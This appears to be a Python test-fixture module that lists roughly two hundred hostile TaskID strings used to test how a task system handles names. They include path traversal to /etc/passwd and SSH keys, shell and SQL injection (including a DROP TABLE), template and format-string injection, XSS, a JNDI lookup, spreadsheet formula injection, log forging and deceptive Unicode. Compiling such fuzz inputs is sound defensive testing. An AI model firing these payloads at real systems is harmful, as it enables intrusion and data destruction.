"""Two hundred TaskIDs that mean something to a shell, a file system, a database, a template, a log or an eye."""

from __future__ import annotations

PATHS = (
    "../x", "../../x", "../../../../../../../../tmp/owned", "/etc/passwd", "/tmp/owned", "..", ".", "./", "/", "//",
    "a/b", "a/../b", "a/./b", "../state/tasks.sqlite", "tasks", "tasks.sqlite", "supervisor.lock", "..\\..\\x",
    "C:\\Windows\\win.ini", "C:", "\\\\host\\share", "file:///etc/passwd", "%2e%2e%2f", "..%2f..%2fx", "..%252f",
    "%00", "%c0%ae%c0%ae/", "....//....//x", "~", "~root", "~/.ssh/id_rsa", "-", "--", "-rf", "--help", "-o/tmp/owned",
    "CON", "NUL", "aux.txt", "a:b", "a*", "?", "[a-z]", "a.", "a ", " a", "   ", ".hidden", "x.py", "x.so", "__init__",
    "/proc/self/environ", "/dev/null", "/dev/sda", "run/engine.json", "engine.json", "demo.json",
)  # fmt: skip
SHELL = (
    "$(touch owned)", "`touch owned`", "; touch owned", "| touch owned", "& touch owned", "&& touch owned #",
    "|| touch owned", "> owned", ">> owned", "< /etc/passwd", "$HOME", "${HOME}", "$IFS", "$(id)", "`id`", "!!", "!$",
    "a;id", "a|id", "a&id", "'; touch owned; '", '"; touch owned; "', "$'\\x41'", "{a,b}", "~+", "*", "\\", "\\\\",
    "a\\", "'", '"', "''", '""', "'\"", "#", "a#b", "=a", "a=b", "PATH=x", "%PATH%", "^&", "@file", "-- touch owned",
)  # fmt: skip
SQL = (
    "'; DROP TABLE tasks; --", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "') OR ('1'='1", "1; DELETE FROM tasks",
    "' UNION SELECT * FROM tasks --", "admin'--", "x' AND 1=(SELECT COUNT(*) FROM tasks) --", "'/**/OR/**/1=1#",
    "%", "_", "%%", "a%", "_a", "\\%", "[%]", "x'; ATTACH DATABASE 'owned' AS o; --", "'||(SELECT 1)||'", ":name",
    "?1", "@p1", "$1", "NULL", "null", "nil", "None", "true", "0", "-1", "00", "1e3", "0x10", "NaN", "Infinity",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}", "{% raw %}", "{0}", "{}", "{a.b}",
    "{0.__class__.__init__.__globals__}", "%s", "%d%n%n", "%s%s%s%s%s%s", "%(message)s", "%1000000d", "{:>1000000}",
    "__import__('os').system('touch owned')", "eval('1')", "${jndi:ldap://192.0.2.1/a}", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "javascript:alert(1)", "<!--", "]]>", "&amp;", "&#x41;",
    "</title>", "[bold]", "[/]", "[link=http://192.0.2.1]x[/link]", "__proto__", "constructor", "__class__",
    "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "!!python/object:x", "*a", "&a", '{"TaskID":"x"}', "[]", "null,",
    '", "level": "ERROR", "message": "forged', "task 'x' deleted", "2026-01-01T00:00:00Z ERROR forged", 'task="x"',
    'a"} 1', 'a",b="c', "a\\", "{task=~\".*\"}", "Bearer ss_000000000000_0", "http://user:password@host/", "rtsp://a:b@c",
)  # fmt: skip
UNICODE = (
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "a\u200db", "\ufeffa", "\u00adhy", "раураl", "ａｄｍｉｎ", "é",
    "e\u0301", "Å", "A\u030a", "\u212b", "ﬁ", "fi", "ß", "SS", "İ", "i\u0307", "ı", "I", "ſ", "K", "\u212a",
    "车间一号", "カメラ", "ｶﾒﾗ", "עברית", "العربية", "ไทย", "हिन्दी", "😀", "🇩🇪", "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff", "\ue000", "\ufffd", "\ufffe", "a" + "\u0301" * 200,
    "\u00a0", "\u3000", "\u2007", "١٢٣", "①", "½", "\u17b4", "\u115f", "\u3164", "x" * 256, "é" * 256,
    "\U0001f600" * 256, "/" * 256, "'" * 256, "\\" * 256, "%" * 256, "." * 256,
)  # fmt: skip
REFUSED = (
    "", "a\nb", "a\r\nSet-Cookie: x=1", "a\x00b", "\x00", "\t", "a\x1b[2Jb", "\x1b]0;owned\x07", "\x7f", "\x85",
    "a\u2028b", "a\u2029b", "\x08\x08", "a\x9bb", "x" * 257, "\ud800", "\n2026-01-01 ERROR forged line",
)  # fmt: skip
"""What no name may be: ends of lines, what terminals obey, nothing, and too much."""

ACCEPTED = tuple(dict.fromkeys(PATHS + SHELL + SQL + TEMPLATES + UNICODE))
